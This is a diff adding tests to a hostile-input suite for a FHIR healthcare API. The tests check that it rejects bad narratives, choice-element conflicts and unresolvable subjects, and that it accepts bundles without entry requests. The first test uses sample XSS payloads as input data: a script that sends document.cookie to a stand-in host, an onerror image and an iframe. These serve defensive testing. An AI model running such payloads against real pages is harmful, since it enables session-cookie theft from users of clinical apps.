@@ -109,6 +109,111 @@ describe('hostile: the FHIR front door, second pass', () => {
     expect(ok.status).toBe(201);
   });
 
+  it('a narrative R4 forbids (a script, an event attribute, not an XHTML div) is 422 on its text.div, kept, never served back', async () => {
+    // Before: 201, and GET /fhir/ServiceRequest/{id} served the <script> and <img onerror> to
+    // whichever SMART app rendered the narrative (R4 narrative.html#xhtml, txt-1).
+    const xhtml = (inner: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>`;
+    for (const [placer, div] of [
+      [
+        'TXT-1',
+        xhtml('<p>Chest CT</p><script>fetch("https://x.example/"+document.cookie)</script>'),
+      ],
+      ['TXT-2', xhtml('<img src="x" onerror="alert(1)"/>')],
+      ['TXT-3', '<p>Chest CT</p>'],
+    ] as const) {
+      const res = await call(
+        adapter,
+        'POST',
+        '/fhir/ServiceRequest',
+        chestCtRequest(placer, { text: { status: 'generated', div } }),
+      );
+      expect(res.status).toBe(422);
+      expect(expressions(res.body)).toEqual(['ServiceRequest.text.div']);
+      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
+      expect(await ordersWith(placer)).toEqual([]);
+    }
+    // In a transaction, on the Patient entry: named there.
+    const tx = chestCtTransaction('txt-4');
+    (tx.entry[0]!.resource as Json).text = {
+      status: 'generated',
+      div: xhtml('<iframe src="https://x.example/"></iframe>'),
+    };
+    const bundle = await call(adapter, 'POST', '/fhir', tx);
+    expect(bundle.status).toBe(422);
+    expect(expressions(bundle.body)).toEqual(['Bundle.entry[0].resource.text.div']);
+    // The R4 examples' own narratives pass (the transaction's Patient and ImagingStudy carry them).
+    expect((await call(adapter, 'POST', '/fhir', chestCtTransaction('txt-ok'))).status).toBe(200);
+  });
+
+  it('a choice element given in two types is 422 on the second; a wrong-typed one is named by the key the body wrote', async () => {
+    // Before: occurrenceDateTime + occurrencePeriod was 201 (requestedAt from the first, the
+    // period dropped), and a number in occurrenceDateTime was 422 on `occurrence[x]`, no key
+    // the sender wrote (and no FHIRPath).
+    const both = await call(
+      adapter,
+      'POST',
+      '/fhir/ServiceRequest',
+      chestCtRequest('CHOICE-1', {
+        occurrenceDateTime: '2026-11-27T08:00:00Z',
+        occurrencePeriod: { start: '2026-11-28T08:00:00Z', end: '2026-11-28T09:00:00Z' },
+      }),
+    );
+    expect(both.status).toBe(422);
+    expect(expressions(both.body)).toEqual(['ServiceRequest.occurrencePeriod']);
+    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
+    expect(await ordersWith('CHOICE-1')).toEqual([]);
+    const wrongType = await call(
+      adapter,
+      'POST',
+      '/fhir/ServiceRequest',
+      chestCtRequest('CHOICE-2', { occurrenceDateTime: 20261127 }),
+    );
+    expect(wrongType.status).toBe(422);
+    expect(expressions(wrongType.body)).toEqual(['ServiceRequest.occurrenceDateTime']);
+  });
+
+  it('a transaction whose entries carry no request is read as POSTs and the quirk recorded, as documented', async () => {
+    // Integration engines that build the Bundle as a collection leave entry.request out.
+    // Before: 422 invariant on `Bundle`, its only explanation the FHIRPath of bdl-3.
+    const tx = chestCtTransaction('no-request');
+    for (const e of tx.entry) delete e.request;
+    const res = await call(adapter, 'POST', '/fhir', tx);
+    expect(res.status).toBe(200);
+    const statuses = (res.body.entry as Array<{ response: { status: string } }>).map(
+      (e) => e.response.status,
+    );
+    expect(statuses).toEqual(['200 OK', '201 Created', '200 OK']);
+    const [msg] = (
+      await db.query<{ quirks: Array<{ code: string }> }>(
+        `SELECT quirks FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
+      )
+    ).rows;
+    expect(msg!.quirks.map((q) => q.code)).toContain('fhir-bundle-entry-without-request');
+  });
+
+  it('a subject that cannot be resolved is one issue on ServiceRequest.subject, not a second one about identifiers', async () => {
+    // Before: 'cannot resolve the subject Patient/nobody …' and 'Patient.identifier is
+    // required … the patient must carry at least one identifier', both on ServiceRequest.subject.
+    for (const [placer, subject, code] of [
+      ['SUBJ-1', { reference: 'Patient/nobody' }, 'not-found'],
+      ['SUBJ-2', { reference: 'Group/ward-3' }, 'not-supported'],
+    ] as const) {
+      const res = await call(
+        adapter,
+        'POST',
+        '/fhir/ServiceRequest',
+        chestCtRequest(placer, { subject }),
+      );
+      expect(res.status).toBe(422);
+      expect(
+        (res.body.issue as Array<{ code: string; expression: string[] }>).map((i) => [
+          i.code,
+          i.expression,
+        ]),
+      ).toEqual([[code, ['ServiceRequest.subject']]]);
+    }
+  });
+
   const patientOf = async (placer: string) =>
     (
       await db.query<{ request: { patient: { identifiers: Array<{ value: string }> } } }>(
